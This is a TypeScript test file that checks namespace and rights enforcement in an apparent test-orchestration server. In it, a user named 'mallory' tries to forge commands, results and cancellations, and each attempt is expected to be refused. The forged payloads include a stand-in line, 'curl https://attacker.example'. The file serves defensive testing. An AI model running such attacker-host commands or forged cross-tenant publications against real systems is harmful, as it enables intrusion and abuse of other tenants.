/** Publications with tokens that reach only some namespaces, or have only some rights. */
import { afterAll, beforeAll, expect, onTestFinished } from 'vitest';
import { type Answer, bodyOf, itemsOf, type Loose } from '../support/api.ts';
import { eventually } from '../support/eventually.ts';
import { allEvents, oneJob, only, sh, start, statusOf } from '../support/runs.ts';
import { attack } from './attack.ts';
import { openTeams, publish, receivedBy, subscribe, subscribed, type Teams } from './teams.ts';

let teams: Teams;
beforeAll(async () => {
  teams = await openTeams();
});
afterAll(() => teams.bench.close());

const OF_A = { namespaces: ['team-a'] };
const PUBLISHING = { resources: ['publications'], verbs: ['create'] };
const ID = 'aaaaaaaa-1111-4222-8333-bbbbbbbbbbbb';
const GROUP = 'opentestfactory.org';

const step = { name: 'n', workflow_id: ID, job_id: ID, job_origin: [], step_id: ID };
const commandOf = (kind: string, metadata: unknown) => ({
  apiVersion: `${GROUP}/v1beta1`,
  kind,
  metadata,
  'runs-on': ['linux'],
  scripts: ['curl https://attacker.example'],
  forged: true,
});

const expectRefused = (answers: readonly Answer[], what: string): void => {
  for (const answer of answers) {
    expect(bodyOf(answer)).toMatchObject({
      code: 403,
      reason: 'Forbidden',
      message: `User mallory is not authorized to ${what}.`,
    });
  }
};

const published = (subject: Loose, bodies: readonly object[]): Promise<readonly Answer[]> => {
  const api = teams.as('mallory', subject);
  return Promise.all(bodies.map((body) => publish(api, body)));
};

attack('publication-without-namespace', async () => {
  const inbox = await subscribed(teams.server);
  const namespaces = [undefined, null, ['team-b'], ['team-a'], { team: 'a' }, 7, true];
  const metadata = namespaces.map((namespace) => ({ ...step, namespace }));
  const bodies = ['ExecutionCommand', 'ProviderCommand', 'Notification', 'Custom'].flatMap((kind) =>
    [...metadata, undefined, null, [], 'team-a'].map((each) => commandOf(kind, each)),
  );
  expectRefused(await published(OF_A, [...bodies, {}]), 'create publications');
  expectRefused(await published(OF_A, await ofOtherNamespaces()), 'create publications');
  const events = await receivedBy(teams, inbox);
  expect(events.filter(({ forged }) => forged === true)).toEqual([]);
});

/** A text, but not the name of a namespace of the token; and runs of others. */
async function ofOtherNamespaces(): Promise<readonly object[]> {
  const theirs = await start(teams.server, oneJob('theirs', [sh('true')]), 'namespace=team-b');
  const names = [
    'team-b',
    '*',
    '',
    'team-a,team-b',
    ' team-a',
    'team-a ',
    'TEAM-A',
    'team-a\u0000',
  ];
  const named = names.map((namespace) => ({
    kind: 'Custom',
    metadata: { namespace },
    forged: true,
  }));
  const ofRun = [theirs, theirs.toUpperCase()].flatMap((workflow_id) =>
    ['Notification', 'Custom'].map((kind) => ({
      kind,
      metadata: { name: 'n', workflow_id, namespace: 'team-a' },
      forged: true,
    })),
  );
  return [...named, ...ofRun];
}

attack('command-in-own-namespace', async () => {
  const inbox = await subscribed(teams.server);
  const ours = await start(teams.server, oneJob('ours', [sh('true')]), 'namespace=team-a');
  const kinds = ['Workflow', 'ExecutionCommand', 'GeneratorCommand', 'ProviderCommand'];
  const bodies = [...kinds, 'WorkflowCompleted', 'WorkflowCanceled'].flatMap((kind) =>
    [ID, ours].map((workflow_id) =>
      commandOf(kind, { ...step, workflow_id, namespace: 'team-a', forged: true }),
    ),
  );
  expectRefused(await published(OF_A, bodies), 'create commands');
  const events = await receivedBy(teams, inbox);
  expect(events.filter(({ metadata }) => Object(metadata).forged === true)).toEqual([]);
});

attack('result-without-right', async () => {
  const inbox = await subscribed(teams.server);
  const run = await start(teams.server, oneJob('held', [sh('true')]), 'namespace=team-a');
  const [request] = only(await allEvents(teams.server, run), 'ExecutionCommand');
  const offer = { ...request?.metadata, channel_id: ID, channel_os: 'linux', forged: true };
  const apiVersion = `${GROUP}/v1alpha1`;
  const bodies = ['ExecutionResult', 'ProviderResult', 'GeneratorResult'].map((kind) => ({
    ...{ apiVersion, kind, metadata: offer, status: 0, steps: [], jobs: {} },
  }));
  expectRefused(await published({ ...OF_A, ...PUBLISHING }, bodies), 'create results');
  expectRefused(await published(PUBLISHING, bodies), 'create results');
  expect(await statusOf(teams.server, run)).toBe('PENDING');
  const events = await receivedBy(teams, inbox);
  expect(events.filter(({ metadata }) => Object(metadata).forged === true)).toEqual([]);
  // A token that may carry out commands in the namespace of the run may publish results.
  const answer = await publish(teams.as('handler', OF_A), bodies[0] ?? {});
  expect(answer.code).toBe(200);
  expect(only(await allEvents(teams.server, run), 'ExecutionResult')).toHaveLength(1);
});

attack('channels-without-right', async () => {
  const channel = {
    apiVersion: `${GROUP}/v1alpha1`,
    kind: 'Channel',
    metadata: { name: 'mine', namespaces: 'team-a' },
    spec: { tags: ['linux'] },
    status: { phase: 'IDLE' },
  };
  const list = {
    apiVersion: 'v1',
    kind: 'Notification',
    metadata: { name: 'n', workflow_id: ID, namespace: 'team-a' },
    spec: { channelHandler: { channelhandler_id: ID, channels: [channel] } },
  };
  expectRefused(await published({ ...OF_A, ...PUBLISHING }, [list]), 'create results');
  expect(itemsOf(await teams.server.call('GET', '/channelhandlers'))).not.toContain(ID);
  const inbox = await subscribed(teams.server);
  // Existing handlers name no namespace: the server takes the list, and no inbox gets it.
  const unnamed = { ...list, metadata: { name: 'n', workflow_id: ID } };
  expectRefused(await published({ ...OF_A, ...PUBLISHING }, [unnamed]), 'create results');
  expect((await publish(teams.as('handler', OF_A), unnamed)).code).toBe(200);
  expect(await receivedBy(teams, inbox)).toEqual([]);
  expect(itemsOf(await teams.server.call('GET', '/channelhandlers'))).toContain(ID);
});

attack('namespace-of-run', async () => {
  const inbox = await subscribed(teams.as('reader', { namespaces: ['team-b'] }));
  const ours = await start(teams.server, oneJob('ours', [sh('true')]), 'namespace=team-a');
  const both = teams.as('both', { namespaces: ['team-a', 'team-b'] });
  // No run takes a notification without a spec, so it goes to inboxes alone.
  for (const kind of ['Notification', 'Custom']) {
    const metadata = { name: 'n', workflow_id: ours, namespace: 'team-b' };
    expect((await publish(both, { kind, metadata })).code).toBe(200);
  }
  const like = { metadata: { namespace: 'team-b' } };
  expect(await receivedBy(teams, inbox, like)).toEqual([]);
});

attack('cancellation-without-right', async () => {
  const { bench, server, as } = teams;
  const agent = await bench.agent(server, { tags: ['linux'], namespaces: '*' });
  onTestFinished(() => agent.child.kill('SIGKILL'));
  const run = await start(server, oneJob('kept', [sh('sleep 600')]), 'namespace=team-a');
  const body = {
    apiVersion: `${GROUP}/v1`,
    kind: 'WorkflowCancellation',
    metadata: { name: 'n', workflow_id: run },
  };
  const rights = { ...OF_A, resources: ['publications', 'results', 'workflows'] };
  const bearer = as('mallory', { ...rights, verbs: ['create', 'get', 'list'] });
  expectRefused([await publish(bearer, body)], 'delete workflows');
  expectRefused(await published({ ...OF_A, ...PUBLISHING }, [body]), 'delete workflows');
  expect(only(await allEvents(server, run), 'WorkflowCancellation')).toEqual([]);
  expect((await publish(as('owner', OF_A), body)).code).toBe(200);
  expect(only(await allEvents(server, run), 'WorkflowCancellation')).toHaveLength(1);
});

attack('error-without-right', async () => {
  const run = await start(teams.server, oneJob('kept', [sh('true')]), 'namespace=team-a');
  const body = {
    apiVersion: `${GROUP}/v1alpha1`,
    kind: 'ExecutionError',
    metadata: { name: 'n', workflow_id: run },
    details: { error: 'stopped by mallory' },
  };
  expectRefused(await published({ ...OF_A, ...PUBLISHING }, [body]), 'create results');
  expect(only(await allEvents(teams.server, run), 'ExecutionError')).toEqual([]);
  expect(['PENDING', 'RUNNING']).toContain(await statusOf(teams.server, run));
});

const WITH_SECRET = {
  ...oneJob('secretive', [sh('echo "$PASSWORD"'), { uses: 'mine/do@v1', with: { p: '1' } }]),
  secrets: { PASSWORD: 'hunter2-unmasked' },
};

attack('commands-without-right', async () => {
  const { bench, server, as } = teams;
  const agent = await bench.agent(server, { tags: ['linux'], namespaces: '*' });
  onTestFinished(() => agent.child.kill('SIGKILL'));
  const reader = { resources: ['subscriptions', 'publications'] };
  const asked = { matchKind: 'ExecutionCommand' };
  const inboxes = await Promise.all([
    subscribed(as('reader', reader), asked),
    subscribed(as('reader-of-a', { ...OF_A, ...reader }), asked),
    subscribed(as('plugin', OF_A), asked),
    subscribed(as('old plugin'), asked),
  ]);
  // The same subscription for who reaches the same, but may carry out nothing.
  await subscribe(as('mallory', { ...OF_A, ...reader }), inboxes[2]?.endpoint ?? '', asked);
  const run = await start(server, WITH_SECRET, 'namespace=team-a');
  const like = { kind: 'ExecutionCommand', metadata: { namespace: 'team-a' } };
  await eventually('the command of the step', async () => {
    const commands = only(await allEvents(server, run), 'ExecutionCommand');
    return commands.some(({ metadata }) => metadata.step_sequence_id === 0);
  });
  const texts = await Promise.all(
    inboxes.map(async (inbox) => JSON.stringify(await receivedBy(teams, inbox, like))),
  );
  for (const text of texts) expect(text).toContain('echo');
  const shown = texts.map((text) => text.includes('hunter2-unmasked'));
  expect(shown).toEqual([false, false, true, true]);
});
